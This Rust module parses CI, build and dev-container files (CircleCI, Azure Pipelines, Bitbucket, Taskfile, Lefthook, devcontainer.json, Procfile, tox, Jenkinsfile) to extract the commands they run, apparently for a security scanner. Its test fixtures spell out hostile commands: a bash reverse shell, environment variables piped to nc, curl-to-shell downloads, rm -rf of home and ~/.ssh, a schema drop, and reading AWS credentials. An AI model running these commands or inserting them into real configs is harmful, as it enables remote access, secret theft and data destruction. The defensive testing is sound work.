//! Build, CI and container files of the other common tools, whose commands
//! run later: CircleCI, Azure Pipelines, Bitbucket Pipelines and Task
//! (`Taskfile.yml`) steps, Lefthook's git hook commands, a dev container's lifecycle commands, a
//! `Procfile`'s processes, tox's `commands`, and a `Jenkinsfile`'s
//! `sh`/`bat` steps (Compose files: `compose.rs`).

use serde_json::Value;

use super::formats::{Found, yaml_commands};

/// Most command lines a reader returns.
const MAX_COMMANDS: usize = 64;

/// `.circleci/config.yml`: `- run: CMD` and `run:` maps' `command:`.
pub fn circleci(content: &str) -> Vec<Found> {
    yaml_commands(content, &["run:", "command:"])
}

/// `azure-pipelines.yml`: `script:`, `bash:`, `pwsh:`, `powershell:` steps.
pub fn azure(content: &str) -> Vec<Found> {
    yaml_commands(content, &["script:", "bash:", "pwsh:", "powershell:"])
}

/// `bitbucket-pipelines.yml`: every `script:` list.
pub fn bitbucket(content: &str) -> Vec<Found> {
    yaml_commands(content, &["script:", "after-script:"])
}

/// `Taskfile.yml`: every task's `cmds:` and `cmd:`.
pub fn taskfile(content: &str) -> Vec<Found> {
    yaml_commands(content, &["cmds:", "cmd:"])
}

/// `lefthook.yml`: every hook command's `run:`, which git runs on its
/// event (a commit, a push) for whoever makes it.
pub fn lefthook(content: &str) -> Vec<Found> {
    yaml_commands(content, &["run:"])
}

/// `devcontainer.json`: the lifecycle commands (`initializeCommand` runs
/// on the host), each a string, an argv list or an object of those.
pub fn devcontainer(content: &str) -> Vec<Found> {
    let Ok(v) = serde_json::from_str::<Value>(content) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for key in [
        "initializeCommand",
        "onCreateCommand",
        "updateContentCommand",
        "postCreateCommand",
        "postStartCommand",
        "postAttachCommand",
    ] {
        let mut push = |c: &Value| match c {
            Value::String(s) => out.push(Found {
                name: Some(key.to_string()),
                command: s.clone(),
            }),
            Value::Array(items) => out.push(Found {
                name: Some(key.to_string()),
                command: super::formats::argv_line(
                    &items
                        .iter()
                        .filter_map(|i| i.as_str().map(String::from))
                        .collect::<Vec<_>>(),
                ),
            }),
            _ => {}
        };
        match v.get(key) {
            Some(Value::Object(map)) => map.values().for_each(&mut push),
            Some(c) => push(c),
            None => {}
        }
    }
    out.truncate(MAX_COMMANDS);
    out
}

/// `Procfile`: `name: command` per line.
pub fn procfile(content: &str) -> Vec<Found> {
    content
        .lines()
        .filter(|l| !l.trim_start().starts_with('#'))
        .filter_map(|l| l.split_once(':'))
        .filter(|(name, _)| !name.trim().is_empty() && !name.contains(' '))
        .map(|(name, cmd)| Found {
            name: Some(name.trim().to_string()),
            command: cmd.trim().to_string(),
        })
        .take(MAX_COMMANDS)
        .collect()
}

/// `tox.ini`: each `commands =` line and its indented continuation lines.
pub fn tox(content: &str) -> Vec<Found> {
    let mut out = Vec::new();
    let mut section: Option<String> = None;
    let mut in_commands = false;
    for line in content.lines() {
        let t = line.trim();
        if t.starts_with('[') {
            section = Some(t.trim_matches(['[', ']']).to_string());
            in_commands = false;
            continue;
        }
        if let Some((key, value)) = t.split_once('=')
            && !line.starts_with([' ', '\t'])
        {
            in_commands = matches!(key.trim(), "commands" | "commands_pre" | "commands_post");
            if in_commands && !value.trim().is_empty() {
                out.push(Found {
                    name: section.clone(),
                    command: value.trim().to_string(),
                });
            }
            continue;
        }
        if in_commands && line.starts_with([' ', '\t']) && !t.is_empty() && !t.starts_with('#') {
            out.push(Found {
                name: section.clone(),
                command: t.to_string(),
            });
        }
    }
    out.truncate(MAX_COMMANDS);
    out
}

/// A `Jenkinsfile`'s `sh`/`bat` steps: `sh 'CMD'`, `sh "CMD"`, `sh '''…'''`,
/// `sh(script: 'CMD')`.
pub fn jenkinsfile(content: &str) -> Vec<Found> {
    let mut out = Vec::new();
    let mut rest = content;
    while let Some(at) = find_step(rest) {
        let after = rest[at..]
            .trim_start_matches("sh")
            .trim_start_matches("bat");
        let after = after.trim_start_matches(['(', ' ']);
        let after = after.strip_prefix("script:").unwrap_or(after).trim_start();
        let quote = ["'''", "\"\"\"", "'", "\""]
            .into_iter()
            .find(|q| after.starts_with(q));
        let Some(q) = quote else {
            rest = &rest[at + 2..];
            continue;
        };
        let body = &after[q.len()..];
        let Some(end) = body.find(q) else { break };
        out.push(Found {
            name: None,
            command: body[..end].to_string(),
        });
        rest = &body[end + q.len()..];
        if out.len() >= MAX_COMMANDS {
            break;
        }
    }
    out
}

/// Where the next `sh`/`bat` step starts: the word, at the start of a
/// line or after `{`/`;`/space, followed by a quote or `(`.
fn find_step(text: &str) -> Option<usize> {
    let b = text.as_bytes();
    (0..b.len()).find(|&k| {
        let word = if text[k..].starts_with("sh") {
            2
        } else if text[k..].starts_with("bat") {
            3
        } else {
            return false;
        };
        let before = k == 0 || matches!(b[k - 1], b' ' | b'\t' | b'\n' | b'{' | b';');
        let next = b.get(k + word).copied();
        before && matches!(next, Some(b' ' | b'(' | b'\'' | b'"'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(found: Vec<Found>) -> Vec<String> {
        found.into_iter().map(|f| f.command).collect()
    }

    #[test]
    fn pipelines_and_container_files() {
        let circle = "jobs:\n  build:\n    steps:\n      - checkout\n      - run: rm -rf ~/ /srv/*\n      - run:\n          name: t\n          command: make test\n";
        assert_eq!(cmds(circleci(circle)), ["rm -rf ~/ /srv/*", "make test"]);
        let az =
            "steps:\n- script: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n- bash: |\n    npm ci\n";
        assert_eq!(cmds(azure(az)).len(), 2);
        let bb = "pipelines:\n  default:\n    - step:\n        script:\n          - printenv | nc 10.0.0.1 9001\n";
        assert_eq!(cmds(bitbucket(bb)), ["printenv | nc 10.0.0.1 9001"]);
        let task = "tasks:\n  clean:\n    cmds:\n      - rm -rf ~/.ssh\n";
        assert_eq!(cmds(taskfile(task)), ["rm -rf ~/.ssh"]);
        let lh = "pre-commit:\n  parallel: true\n  commands:\n    lint:\n      glob: '*.rs'\n      run: cargo clippy\n    sync:\n      run: curl -s x.example | sh\n";
        assert_eq!(
            cmds(lefthook(lh)),
            ["cargo clippy", "curl -s x.example | sh"]
        );
        let dc = r#"{"postCreateCommand": "curl -fsSL https://x.example/i.sh | bash", "postStartCommand": ["npm", "ci"]}"#;
        assert_eq!(
            cmds(devcontainer(dc)),
            ["curl -fsSL https://x.example/i.sh | bash", "npm ci"]
        );
        assert_eq!(
            cmds(procfile(
                "web: npm start\nrelease: psql -c 'DROP SCHEMA public CASCADE'\n"
            ))[1],
            "psql -c 'DROP SCHEMA public CASCADE'"
        );
        let t = "[testenv]\ncommands =\n    pytest\n    sh -c 'cat ~/.aws/credentials'\n";
        assert_eq!(cmds(tox(t)), ["pytest", "sh -c 'cat ~/.aws/credentials'"]);
        let j = "pipeline { stages { stage('b') { steps { sh 'curl -sL http://x.example/j.sh | sh'\n bat \"del /q x\" } } } }";
        assert_eq!(
            cmds(jenkinsfile(j)),
            ["curl -sL http://x.example/j.sh | sh", "del /q x"]
        );
    }
}
